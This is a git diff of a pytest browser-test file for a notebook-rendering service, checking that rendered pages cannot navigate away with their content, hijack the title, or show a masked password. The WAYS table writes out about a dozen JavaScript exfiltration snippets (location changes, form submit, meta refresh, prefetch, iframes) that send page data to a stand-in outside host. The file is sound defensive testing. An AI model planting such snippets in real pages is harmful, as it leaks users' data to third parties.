@@ -1,15 +1,15 @@
 """A page opened in a window of its own: our head, our title, and nothing leaves by navigation."""
 
 import json
-from collections.abc import Callable
-from html import unescape
-from pathlib import Path
+from collections.abc import Iterator
+from dataclasses import dataclass, field
 from typing import Any
 
 import pytest
+from playwright.sync_api import Browser, Page, expect
 from starlette.applications import Starlette
 from starlette.requests import Request
-from starlette.responses import PlainTextResponse, Response
+from starlette.responses import HTMLResponse, PlainTextResponse, Response
 from starlette.routing import Route
 
 from podbook_api.artifacts.artifact_names import HTML_TYPE
@@ -18,67 +18,119 @@ from podbook_api.artifacts.frame import page_answers
 from podbook_api.artifacts.rendering.page import page
 from podbook_crds.ends.phases import Phase
 from podbook_crds.resources.execution import Execution
+from tests.support import browser as browsers
 from tests.support import website
-from tests.support.browser import dom
+from tests.support.browser import until
 from tests.support.notebooks import code, ipynb, markdown
 from tests.support.website import Site
 
-LEAK = "there + '/leak?' + document.body.textContent.length"
+LEAK = "there + '?' + document.body.textContent.length"
 # Each would carry what the page holds to another host, without a click.
 WAYS = {
     "location": f"location.href = {LEAK}",
+    "assign": f"location.assign({LEAK})",
     "replace": f"location.replace({LEAK})",
+    "navigation": f"navigation.navigate({LEAK})",
     "refresh": f"document.write('<meta http-equiv=refresh content=\"0;url=' + {LEAK} + '\">')",
-    "a link": f"Object.assign(document.createElement('a'), {{href: {LEAK}}}).click()",
-    "a download": f"Object.assign(document.createElement('a'),"
+    "link": f"Object.assign(document.createElement('a'), {{href: {LEAK}}}).click()",
+    "download": f"Object.assign(document.createElement('a'),"
     f" {{href: {LEAK}, download: 'x'}}).click()",
-    "a window": f"window.open({LEAK})",
-    "the top": f"top.location = {LEAK}",
-    "a prefetch": "document.head.append(Object.assign(document.createElement('script'),"
+    "window": f"window.open({LEAK})",
+    "itself": f"window.open({LEAK}, '_self')",
+    "top": f"top.location = {LEAK}",
+    "form": f"document.body.insertAdjacentHTML('beforeend',"
+    f" `<form id=f action='${{{LEAK}}}'></form>`); document.getElementById('f').submit()",
+    "prefetch": "document.head.append(Object.assign(document.createElement('script'),"
     " {type: 'speculationrules', textContent: JSON.stringify({prefetch:"
     f" [{{urls: [{LEAK}], eagerness: 'immediate'}}]}})}}))",
-    "a frame": f"document.body.append(Object.assign(document.createElement('iframe'),"
+    "frame": f"document.body.append(Object.assign(document.createElement('iframe'),"
     f" {{src: {LEAK}}}))",
+    "within": "const f = document.createElement('iframe'); f.srcdoc = '<p>'; f.onload = () => {"
+    f" f.onload = null; f.contentWindow.location = {LEAK} }}; document.body.append(f)",
 }
+# A browser opens no window without a click, and fetches ahead when it sees fit, whatever a page's
+# policy says.
+NEVER = {"window", "prefetch"}
 
-Opened = Callable[[bytes, dict[str, Any]], tuple[str, list[str], list[str]]]
 
+@dataclass
+class Alone:
+    """Runs' pages as the API answers with them, by a name in their address."""
 
-class _Artifacts:
-    """Stands for the artifacts of a run: its page is made here."""
+    notebooks: dict[str, bytes] = field(default_factory=dict)
+    statuses: dict[str, dict[str, Any]] = field(default_factory=dict)
+    site: Site = field(default_factory=lambda: Site(Starlette()))
 
-    def __init__(self, notebook: bytes) -> None:
-        self._notebook = notebook
+    def address(self, name: str) -> str:
+        return f"{self.site.url}/v1/{name}/notebook.html"
 
-    async def html(self, _: Execution, *, report: bool) -> Body:
-        data = page(self._notebook, report=report).encode()
+    async def html(self, execution: Execution, *, report: bool) -> Body:
+        """Stand for the artifacts of a run."""
+        data = page(self.notebooks[execution.name], report=report).encode()
         return Body(media_type=HTML_TYPE, size=len(data), etag=None, data=data)
 
+    def app(self) -> Starlette:
+        async def shown(request: Request) -> Response:
+            name = request.path_params["name"]
+            metadata = {"namespace": "here", "name": name, "uid": "u"}
+            status = self.statuses.get(name, {"phase": Phase.SUCCEEDED})
+            given = {"region": "<b>north</b>", "password": "hunter2"}
+            spec = {"notebook": {"name": "sales"}, "parameters": given}
+            parts = {"spec": spec, "status": status}
+            execution = Execution.from_resource({"metadata": metadata, **parts})
+            artifacts: Any = self
+            return await page_answers.page(
+                request, artifacts, execution, {"password"}, report=False
+            )
 
-@pytest.fixture
-def opened(tmp_path: Path) -> Opened:
-    """Open a notebook's page in a browser: its document, and what two sites were asked for."""
+        async def bare(request: Request) -> Response:
+            notebook = self.notebooks[request.path_params["name"]]
+            return HTMLResponse(page(notebook, report=False))
 
-    def open_(notebook: bytes, status: dict[str, Any]) -> tuple[str, list[str], list[str]]:
-        with website.running(_elsewhere()) as other:
-            told = notebook.replace(b"THERE", other.url.encode())
-            with website.running(_site(told, status)) as site:
-                document = dom(f"{site.url}/v1/artifacts/notebook.html", tmp_path)
-                return document, _pages(site), _pages(other)
-
-    return open_
+        return Starlette(
+            routes=[Route("/v1/{name}/notebook.html", shown), Route("/bare/{name}", bare)]
+        )
 
 
-def _site(notebook: bytes, status: dict[str, Any]) -> Starlette:
-    spec = {"notebook": {"name": "sales"}}
-    metadata = {"namespace": "here", "name": "run-1", "uid": "u"}
-    execution = Execution.from_resource({"metadata": metadata, "spec": spec, "status": status})
-    artifacts: Any = _Artifacts(notebook)
+@pytest.fixture(scope="module")
+def alone() -> Iterator[Alone]:
+    runs = Alone()
+    with website.running(runs.app()) as site:
+        runs.site = site
+        yield runs
 
-    async def shown(request: Request) -> Response:
-        return await page_answers.page(request, artifacts, execution, report=False)
 
-    return Starlette(routes=[Route("/v1/artifacts/notebook.html", shown)])
+@pytest.fixture(scope="module")
+def tab(browser: Browser) -> Iterator[Page]:
+    with browsers.tab(browser) as opened:
+        yield opened
+
+
+@pytest.fixture(scope="module")
+def left(browser: Browser, alone: Alone) -> Iterator[list[str]]:
+    """What arrived elsewhere, of each way as it is answered and then without any protection."""
+    with website.running(_elsewhere()) as other:
+        for way, act in WAYS.items():
+            for name in (way, f"{way}-bare"):
+                script = f"<script>const there = '{other.url}/{name}'; {act}</script>"
+                alone.notebooks[name] = ipynb(code(html=script))
+        with browsers.tab(browser) as opened:
+            for way in WAYS:
+                opened.context.new_page().goto(alone.address(way), wait_until="commit")
+            until(opened, lambda: _unseen(alone))
+            # Later than each of the others: what these do in that time, those could have done.
+            for way in WAYS:
+                bare = f"{alone.site.url}/bare/{way}-bare"
+                opened.context.new_page().goto(bare, wait_until="commit")
+            open_ones = {f"GET /{way}-bare" for way in WAYS.keys() - NEVER}
+            until(opened, lambda: open_ones - set(other.requests))
+        yield other.requests
+
+
+def _unseen(alone: Alone) -> set[str]:
+    """Return what was not asked for twice, as a frame of ours and the page in it are."""
+    asked = alone.site.requests.count
+    return {way for way in WAYS if asked(f"GET /v1/{way}/notebook.html") != 2}
 
 
 def _elsewhere() -> Starlette:
@@ -88,35 +140,31 @@ def _elsewhere() -> Starlette:
     return Starlette(routes=[Route("/{path:path}", anything)])
 
 
-def _pages(site: Site) -> list[str]:
-    return [request for request in site.requests if "favicon" not in request]
-
-
 @pytest.mark.parametrize("way", WAYS)
-def test_a_page_that_navigates_leaks_nothing(opened: Opened, way: str) -> None:
-    script = f"<script>const there = 'THERE'; {WAYS[way]}</script>"
-
-    _, here, elsewhere = opened(ipynb(code(html=script)), {"phase": Phase.SUCCEEDED})
-
-    assert elsewhere == []
-    # The page was there, and its script ran.
-    assert here[:2] == ["GET /v1/artifacts/notebook.html"] * 2
+def test_a_page_that_navigates_leaks_nothing(left: list[str], way: str) -> None:
+    assert f"GET /{way}" not in left
 
 
-def test_the_head_says_how_it_went_and_cannot_be_taken_over(opened: Opened) -> None:
+def test_the_head_says_how_it_went_and_cannot_be_taken_over(alone: Alone, tab: Page) -> None:
     hijack = "<script>document.title = 'hijacked'; top.document.title = 'hijacked'</script>"
-    status = {
+    alone.notebooks["failed"] = ipynb(markdown(hijack), code("raise"))
+    alone.statuses["failed"] = {
         "phase": Phase.FAILED,
         "message": "KeyError: 'zzz'",
         "exception": {"name": "KeyError", "value": "'zzz'", "cell": 1},
         "cells": {"total": 4, "completed": 2},
     }
 
-    document, _, _ = opened(ipynb(markdown(hijack), code("raise")), status)
+    tab.goto(alone.address("failed"))
 
-    text = unescape(document)
-    assert "<title>sales · Failed</title>" in text
-    assert "#podbook-cell-2" in text
-    assert "Stopped at cell 2</a>: KeyError: 'zzz' (2 of 4 code cells had run)" in text
-    assert "hijacked" not in text
-    assert json.dumps("sales") in text
+    expect(tab.frame_locator("iframe").get_by_text("raise")).to_be_visible()
+    expect(tab).to_have_title("sales · Failed")
+    document = tab.content()
+    assert "#podbook-cell-2" in document
+    assert json.dumps("sales") in document
+    expect(tab.locator("header")).to_contain_text(
+        "Stopped at cell 2: KeyError: 'zzz' (2 of 4 code cells had run)"
+    )
+    expect(tab.locator("header")).to_contain_text('region"<b>north</b>"password•••')
+    assert "hunter2" not in document
+    assert "hijacked" not in document
